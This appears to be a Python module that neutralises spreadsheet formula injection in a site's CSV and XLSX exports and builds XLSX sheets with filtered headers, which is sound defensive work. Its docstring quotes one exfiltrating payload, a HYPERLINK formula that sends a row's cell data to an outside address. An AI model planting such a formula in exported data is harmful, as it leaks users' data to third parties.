"""Every spreadsheet the site writes (CSV and XLSX downloads, the import error report, leaderboard
exports) goes through this module, so that no text an officer or a visitor typed can become a live
formula in the reader's spreadsheet program.

Formula ("CSV") injection, OWASP's rule: a cell whose text starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a formula
(``=HYPERLINK("http://…"&B2,"x")`` sends the row's data away when clicked). Such a text is written
with a leading apostrophe, which every spreadsheet program shows as text; numbers and dates the site
itself writes are not text and are left alone (a negative figure stays a number). In XLSX every text
cell is also written with the string type, never as a formula, whatever it starts with.

The importer reads a neutralised cell back as the text it was (`restore`), so an exported file can
still be corrected and imported without changing anything.

XLSX downloads get a frozen, filtered header row (`XlsxSheet`).
"""

import datetime
from decimal import Decimal

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(text):
    """The text as a spreadsheet must show it: with a leading apostrophe when it would start a formula.
    Anything that is not a string (numbers, dates, None) is returned unchanged."""
    if isinstance(text, str) and text.startswith(FORMULA_PREFIXES):
        return QUOTE + text
    return text


def restore(text):
    """The inverse of `neutralise` for a cell read back from a file this site wrote."""
    if isinstance(text, str) and text.startswith(QUOTE) and text[1:2] and text[1:].startswith(FORMULA_PREFIXES):
        return text[1:]
    return text


class Echo:
    """A file-like object whose write() returns what it was given: csv.writer into a stream."""

    def write(self, value):
        return value


def csv_row(values):
    """Text cells neutralised; the caller has already written numbers and dates as it wants them
    (a value the caller formatted itself is passed through `number_cell` to stay untouched)."""
    return [value.text if isinstance(value, Formatted) else neutralise(value) for value in values]


class Formatted:
    """A cell the site formatted itself (a Vietnamese number "-5,3", a date): never neutralised."""

    __slots__ = ("text",)

    def __init__(self, text):
        self.text = text

    def __repr__(self):
        return f"Formatted({self.text!r})"


def xlsx_value(value):
    """A cell value for openpyxl: numbers and dates as they are, text neutralised."""
    if isinstance(value, Formatted):
        return value.text
    if isinstance(value, bool):
        return value
    if isinstance(value, Decimal):
        return int(value) if value == value.to_integral_value() else float(value)
    if isinstance(value, (int, float, datetime.date, datetime.datetime)) or value is None:
        return value
    return neutralise(str(value))


class XlsxSheet:
    """A write-only worksheet whose header row is frozen and carries an auto-filter, and whose text
    cells are written with the string type (openpyxl would otherwise store any text starting with
    "=" as a formula)."""

    def __init__(self, workbook, title, header, widths=None, title_row=None):
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Font

        self._cell_class = WriteOnlyCell
        self.sheet = workbook.create_sheet(title[:31])
        self.columns = len(header)
        for index, width in enumerate(widths or (), start=1):
            from openpyxl.utils import get_column_letter

            self.sheet.column_dimensions[get_column_letter(index)].width = width
        self.header_row = 2 if title_row else 1
        self.sheet.freeze_panes = f"A{self.header_row + 1}"  # before the first row: views come first
        self.rows = 0
        if title_row:
            cell = WriteOnlyCell(self.sheet, value=neutralise(str(title_row)))
            cell.data_type = "s"
            cell.font = Font(bold=True, size=13)
            self.sheet.append([cell])
            self.rows += 1
        bold = Font(bold=True)
        cells = []
        for text in header:
            cell = self._text(text)
            cell.font = bold
            cells.append(cell)
        self.sheet.append(cells)
        self.rows += 1

    def _text(self, text):
        cell = self._cell_class(self.sheet, value=None)
        cell.value = neutralise(str(text))
        cell.data_type = "s"  # a string cell, never a formula
        return cell

    def append(self, values):
        row = []
        for value in values:
            value = xlsx_value(value)
            row.append(self._text(value) if isinstance(value, str) else value)
        self.sheet.append(row)
        self.rows += 1

    def finish(self):
        """Set the filter over the header and every row written (call once, before saving)."""
        from openpyxl.utils import get_column_letter

        if self.columns:
            self.sheet.auto_filter.ref = (f"A{self.header_row}:{get_column_letter(self.columns)}"
                                          f"{max(self.rows, self.header_row)}")
